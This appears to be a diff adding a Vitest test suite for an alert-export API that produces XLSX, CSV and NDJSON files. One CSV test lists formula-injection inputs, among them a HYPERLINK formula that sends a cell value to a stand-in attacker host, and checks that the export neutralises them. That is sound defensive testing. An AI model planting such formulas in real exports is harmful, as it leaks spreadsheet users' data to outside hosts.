@@ -1,0 +1,169 @@
+import { randomUUID } from "node:crypto";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createAlertRule, createAlerts, createApiKey, createCamera, createFacility, createWorkspace } from "../support/factories.js";
+import { type Gateway, type Sender, startGateway } from "../support/harness.js";
+import { columns, csvRecords, type ExportFormat, exportedRows, fileOf, jsonLines, linkTo, pathOf } from "./exports.js";
+import { exceljsRows, workbookOf } from "./workbook.js";
+
+const now = new Date("2026-11-20T12:34:56.000Z");
+const allTime = { start: "1970-01-01T00:00:00Z", end: "9999-12-31T23:59:59.999Z" };
+
+let gateway: Gateway;
+let as: Sender;
+let site: { workspaceId: string; facilityId: string; cameraId: string };
+let full: Record<string, unknown>;
+beforeAll(async () => {
+  gateway = await startGateway({ seed: "none", now: () => now });
+  const { prisma } = gateway;
+  const workspaceId = await createWorkspace(prisma, {});
+  as = await createApiKey(prisma, { workspaceId, permissions: ["alerts:read"] });
+  const facilityId = await createFacility(prisma, { workspaceId, timeZoneId: "Asia/Kathmandu", name: "Dock, north" });
+  const cameraId = await createCamera(prisma, { workspaceId, facilityId, name: 'The "gate"' });
+  site = { workspaceId, facilityId, cameraId };
+  const areas = [{ id: randomUUID(), type: "AREA", name: "Zone", points: [] }];
+  const group = { id: randomUUID(), type: "GROUP", operator: "AND", children: areas };
+  const alertRuleId = await createAlertRule(prisma, { workspaceId, cameraId, name: "FENCE", pretty: "A person,\nin the zone", group });
+  full = {
+    ...{ ...site, name: "FULL", alertRuleId, areaIds: [areas[0]?.id], severity: "HIGH", count: 3, bookmark: true, observation: true },
+    createdAt: new Date("2026-11-20T09:30:00.999Z"),
+    url: "alerts/picture.jpg",
+    thumbnailUrl: "https://pictures.example/1.jpg?a=1&b=2",
+    imageDimensions: { height: 720, width: 1280 },
+    canvasDimensions: { height: 360.5, width: 640 },
+    violatingCoordinates: [{ y: 2, x: 1.25 }],
+    area: [],
+    info: { zebra: 1, apple: ["ü\u0001\u2028", null], big: 12345678.9 },
+    storageClass: "s3",
+  };
+  const sparse = Array.from({ length: 1100 }, (_, index) => ({ ...site, name: "SPARSE", createdAt: new Date(now.getTime() - 86_400_000 - index) }));
+  await createAlerts(prisma, [full, ...sparse] as never);
+});
+afterAll(() => gateway.close());
+
+async function exported(format: ExportFormat, filter: object = {}): Promise<Buffer> {
+  return fileOf(await gateway.fetch(pathOf((await linkTo(gateway, as, { ...allTime, ...filter }, format)).url)));
+}
+
+const kinds: [ExportFormat, string, string][] = [
+  ["XLSX", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "xlsx"],
+  ["CSV", "text/csv; charset=utf-8", "csv"],
+  ["NDJSON", "application/x-ndjson", "ndjson"],
+];
+it.each(kinds)("%s has its content type and file name", async (format, contentType, extension) => {
+  const path = pathOf((await linkTo(gateway, as, allTime, format)).url);
+  for (const method of ["HEAD", "GET"]) {
+    const { status, headers } = await gateway.fetch(path, { method });
+    const of = ["content-type", "content-disposition", "cache-control", "etag"].map((name) => headers.get(name));
+    expect([status, ...of]).toEqual([200, contentType, `attachment; filename="alerts-2026-11-20.${extension}"`, "private, no-store", null]);
+    // `fetch` asks for compression and undoes it.
+    if (method === "GET") expect(headers.get("content-encoding") === null).toBe(format === "XLSX");
+  }
+});
+
+it("REST answers with xlsx, whatever format is asked for", async () => {
+  const { headers } = await gateway.fetch("/alerts/export?start=0&end=0&format=CSV", { as });
+  expect(headers.get("content-disposition")).toMatch(/\.xlsx"$/);
+});
+
+it("null is the default format", async () => {
+  const query = "query ($filter: AlertFilter!) { exportAlerts(filter: $filter, format: null) { url } }";
+  const { exportAlerts } = await gateway.data<{ exportAlerts: { url: string } }>(query, { as, variables: { filter: allTime } });
+  expect((await gateway.fetch(pathOf(exportAlerts.url), { method: "HEAD" })).headers.get("content-type")).toBe(kinds[0]?.[1]);
+});
+
+describe("CSV", () => {
+  it("has the columns and rows of the spreadsheet, with times to the second and the links of pictures", async () => {
+    const [sheet] = (await workbookOf(await exported("XLSX"))).worksheets;
+    const rows = await exportedRows(exceljsRows(sheet));
+    const links = rows.map((_, index) => sheet?.getCell(index + 2, columns.indexOf("Image") + 1).hyperlink ?? null);
+    const expected = rows.map((row, index) =>
+      columns.map((name) => {
+        const cell = name === "Image" ? links[index] : row[name];
+        if (cell instanceof Date) return cell.toISOString().slice(0, 19).replace("T", " ");
+        return String(cell ?? "").replace(/^(?:true|false)$/, (text) => text.toUpperCase());
+      }),
+    );
+    const [header, ...records] = csvRecords(await exported("CSV"));
+    expect(header).toEqual(columns);
+    expect(records).toHaveLength(1101);
+    expect(records).toEqual(expected);
+    expect(records[0]?.slice(0, 4)).toEqual(["2026-11-20 15:15:00", "2026-11-20 09:30:00", "Dock, north", 'The "gate"']);
+    expect(records[0]?.at(-1)).toBe("A person,\nin the zone");
+  });
+
+  it("has only the header if nothing matches", async () => {
+    expect(csvRecords(await exported("CSV", { types: [] }))).toEqual([columns]);
+  });
+
+  const texts: [text: string, field: string][] = [
+    ["=1+1", "'=1+1"],
+    ["+1", "'+1"],
+    ["-1", "'-1"],
+    ["@SUM(A1)", "'@SUM(A1)"],
+    ["\t=1+1", "'\t=1+1"],
+    ["\r=1+1", "'\r=1+1"],
+    ["'=1", "'=1"],
+    ["a=1", "a=1"],
+    ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', `'=HYPERLINK("https://evil.example/?x="&A1,"Open")`],
+    ["one\ntwo\r\nthree\rfour", "one\ntwo\r\nthree\rfour"],
+    ["a,b;c\td", "a,b;c\td"],
+    ['"', '"'],
+    ["  spaces  ", "  spaces  "],
+    ["", ""],
+    ["a\u0001b\u001bc\u007f", "a\ufffdb\ufffdc\ufffd"],
+    ["🎥 שלום é", "🎥 שלום é"],
+    ["x".repeat(40_000), "x".repeat(40_000)],
+  ];
+  it("has no text that a program would take for a formula, and all others unchanged but for control characters", async () => {
+    const severity = randomUUID();
+    const alerts = texts.map(([name], index) => ({ ...site, name, severity, createdAt: new Date(now.getTime() - index) }));
+    const ids = await createAlerts(gateway.prisma, alerts);
+    const records = csvRecords(await exported("CSV", { severities: [severity] })).slice(1);
+    await gateway.prisma.alert.deleteMany({ where: { id: { in: ids } } });
+    expect(records.map((record) => record[columns.indexOf("Type")])).toEqual(texts.map(([, field]) => field));
+  });
+});
+
+describe("NDJSON", () => {
+  const fields = [
+    ...["id", "cameraId", "name", "count", "createdAt", "localCreatedAt", "url", "thumbnailUrl", "imageDimensions", "canvasDimensions"],
+    ...["violatingCoordinates", "area", "storageClass", "info", "bookmark", "falsePositive", "alertRuleId", "workspaceId", "areaIds"],
+  ];
+  type Line = Record<string, unknown>;
+
+  it("has the names and values of the full alert in each line", async () => {
+    const query = `query ($filter: AlertFilter!, $offset: Int) { alerts(filter: $filter, first: 1000, offset: $offset) { nodes {
+      id cameraId name count createdAt localCreatedAt url thumbnailUrl imageDimensions { width height } canvasDimensions { width height }
+      violatingCoordinates { x y } area { x y } storageClass info bookmark falsePositive alertRuleId areaIds } } }`;
+    const listed: Line[] = [];
+    for (const offset of [0, 1000]) {
+      const { alerts } = await gateway.data<{ alerts: { nodes: Line[] } }>(query, { as, variables: { filter: allTime, offset } });
+      listed.push(...alerts.nodes.map((node) => ({ ...node, workspaceId: site.workspaceId })));
+    }
+    const withoutQuery = (line: Line): Line => ({ ...line, url: typeof line.url === "string" ? new URL(line.url).pathname : line.url });
+    const lines = jsonLines<Line>(await exported("NDJSON"));
+    expect(lines).toHaveLength(1101);
+    expect(lines.map(withoutQuery)).toEqual(listed.map(withoutQuery));
+    for (const line of lines) expect(Object.keys(line)).toEqual(fields);
+    const [first] = lines as [Line];
+    expect(first).toMatchObject({ localCreatedAt: "2026-11-20T15:15:00.999+05:45", info: full.info, thumbnailUrl: full.thumbnailUrl });
+    expect(Object.keys(first.imageDimensions as object)).toEqual(["width", "height"]);
+    expect(new URL(first.url as string).searchParams.get("expires")).toBe(String(Date.parse("2026-11-27T13:00:00Z") / 1000));
+  });
+
+  it("is empty if nothing matches", async () => {
+    expect(await exported("NDJSON", { types: [] })).toHaveLength(0);
+  });
+
+  it("reads large alerts in smaller pages", async () => {
+    const name = randomUUID();
+    const alert = { ...site, name, info: { text: "x".repeat(60_000) } };
+    const ids = await createAlerts(gateway.prisma, Array(200).fill(alert), now);
+    gateway.clearStatements();
+    const lines = jsonLines<Line>(await exported("NDJSON", { types: [name] }));
+    const pages = gateway.statements.filter((sql) => sql.includes('AS "bytesBefore"')).length;
+    await gateway.prisma.alert.deleteMany({ where: { name } });
+    expect(lines.map(({ id }) => id)).toEqual(ids);
+    expect(pages).toBe(3);
+  });
+});
